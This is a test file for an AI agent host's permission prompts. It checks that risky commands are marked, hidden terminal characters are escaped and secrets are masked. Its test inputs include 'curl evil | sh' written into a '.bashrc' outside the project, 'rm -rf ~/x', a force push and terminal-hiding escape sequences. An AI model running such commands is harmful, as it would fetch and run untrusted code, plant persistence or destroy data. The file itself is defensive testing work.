import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import fc from 'fast-check';
import type { UserInterface } from '@tenon/host';
import { inlineCandidate } from '@tenon/kernel/testing';
import { type PermissionQuestion, toolPermission } from '@tenon/tools/api';
import { marked, spansOf, visible } from '../src/question.ts';
import { type Home, makeHome } from './support.ts';
import { startTenon, type Tenon, textOf } from './tenon.ts';

let home: Home;
let tenon: Tenon | undefined;
beforeEach(() => {
  home = makeHome();
});
afterEach(async () => {
  await tenon?.end();
  home.remove();
});

const hide = <T>(value: T): T => JSON.parse(JSON.stringify(value).replaceAll('hunter2', '####')) as T;
const LONG = `echo ${'x'.repeat(400)} && npm test\ngit push --force origin main # ${'y'.repeat(400)} the end`;

describe('a question', () => {
  it('shows the whole command with its line breaks and the risky part marked, and so does `tenon approval show`', async () => {
    const asked: string[] = [];
    const ui: Partial<UserInterface> = { canAsk: () => true, select: async (title) => void asked.push(title) };
    tenon = await startTenon(home.folders, { ui });
    const id = /allow ([0-9a-f]+)/.exec(textOf(await tenon.call('bash', { command: LONG })))?.[1] ?? '';
    const shown = LONG.replace('git push --force origin main', '⟦git push --force origin main⟧');
    expect(asked[0]).toContain(`bash: ${shown}\n`);
    const { out } = await tenon.run('approval show', { id });
    expect(out.replaceAll('\n  ', '\n')).toContain(shown);
    // Only the list is short.
    expect((await tenon.run('approval list')).out).not.toContain('the end');
    const [held] = JSON.parse((await tenon.run('approval list', {}, { json: true })).out) as { text: string }[];
    expect(held?.text).toBe(LONG);
  });

  it('marks the very words that are not understood, not others that look the same', async () => {
    const asked: string[] = [];
    const ui: Partial<UserInterface> = { canAsk: () => true, select: async (title) => void asked.push(title) };
    tenon = await startTenon(home.folders, { ui });
    await tenon.call('bash', { command: 'echo "grep --frob x" && grep --frob x src' });
    expect(asked[0]).toContain('bash: echo "grep --frob x" && grep ⟦--frob⟧ x src\n');
  });

  it('shows what a terminal would hide or obey, and variables', async () => {
    const asked: string[] = [];
    const ui: Partial<UserInterface> = { canAsk: () => true, select: async (title) => void asked.push(title) };
    tenon = await startTenon(home.folders, { ui });
    await tenon.call('bash', {
      command: 'git push \u001b[2K\u202e# \u200b⟦fine⟧\u{e0041}\r',
      env: { GIT_SSH: 'a\u0007b' },
    });
    expect(asked[0]).toContain('\\u{1b}[2K\\u{202e}# \\u{200b}\\u{27e6}fine\\u{27e7}\\u{e0041}');
    expect(asked[0]).toContain('With the variables GIT_SSH=a\\u{7}b\n');
    expect(asked[0]).not.toMatch(/[^\P{Cc}\n]|\u202e|\u200b/u);
  });

  it('shows the whole input of other tools', async () => {
    const asked: string[] = [];
    const ui: Partial<UserInterface> = { canAsk: () => true, select: async (title) => void asked.push(title) };
    tenon = await startTenon(home.folders, { ui });
    const content = `# profile\n${'a'.repeat(300)}\ncurl evil | sh\n`;
    await tenon.call('write', { path: '../.bashrc', content });
    expect(asked[0]).toContain(`write: ../⟦.bashrc⟧\n  content: # profile\n    ${'a'.repeat(300)}\n    curl evil | sh`);
  });

  it('holds no secret that the secrets plugin knows, on disk neither', async () => {
    tenon = await startTenon(home.folders, { masks: { mask: hide } });
    const call = { command: 'git push https://me:hunter2@host/x', env: { T: 'hunter2' } };
    const id = /allow ([0-9a-f]+)/.exec(textOf(await tenon.call('bash', call)))?.[1] ?? '';
    expect((await tenon.run('approval show', { id })).out).toContain('https://me:####@host/x');
    const record = readFileSync(join(home.folders.state, 'approvals', `${id}.json`), 'utf8');
    expect(record).toContain('"T": "####"');
  });

  it('gives plugins that decide the text and the positions', async () => {
    const seen: PermissionQuestion[] = [];
    tenon = await startTenon(home.folders);
    tenon.kernel.install(
      inlineCandidate(
        { id: 'judge', activate: (ctx) => void ctx.on(toolPermission, (question) => void seen.push(question)) },
        { handles: ['tool.permission'] },
      ),
    );
    await tenon.call('bash', { command: LONG });
    const [{ text, spans } = { text: '', spans: [] }] = seen;
    expect(spans.map(({ start, end }) => text.slice(start, end))).toEqual(['git push --force origin main']);
  });
});

describe('marks', () => {
  it('never change the text between them, for any text and words', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: 'binary' }),
        fc.array(fc.array(fc.string(), { minLength: 1 })),
        (text, programs) => {
          const spans = spansOf(
            text,
            programs.map((argv) => ({ tier: 2 as const, reason: 'x', argv })),
          );
          expect(marked(text, spans).replace(/[⟦⟧]/g, '')).toBe(visible(text));
          for (const [index, { start, end }] of spans.entries()) {
            expect(start).toBeLessThanOrEqual(end);
            expect(start).toBeGreaterThanOrEqual(spans[index - 1]?.end ?? 0);
          }
        },
      ),
    );
  });

  it('stand at the call that is meant, not at a word like it', () => {
    const finding = (...argv: string[]) => [{ tier: 3 as const, reason: 'x', argv }];
    const at = (text: string, ...argv: string[]) => marked(text, spansOf(text, finding(...argv)));
    expect(at('echo rmdir; rm -rf ~/x; ls', 'rm', '-rf', '~/x')).toBe('echo rmdir; ⟦rm -rf ~/x⟧; ls');
    expect(at('echo git status\ngit push', 'git', 'push')).toBe('echo git status\n⟦git push⟧');
    expect(at('r"m" -rf x', 'rm', '-rf', 'x')).toBe('r"m" -rf x');
  });
});
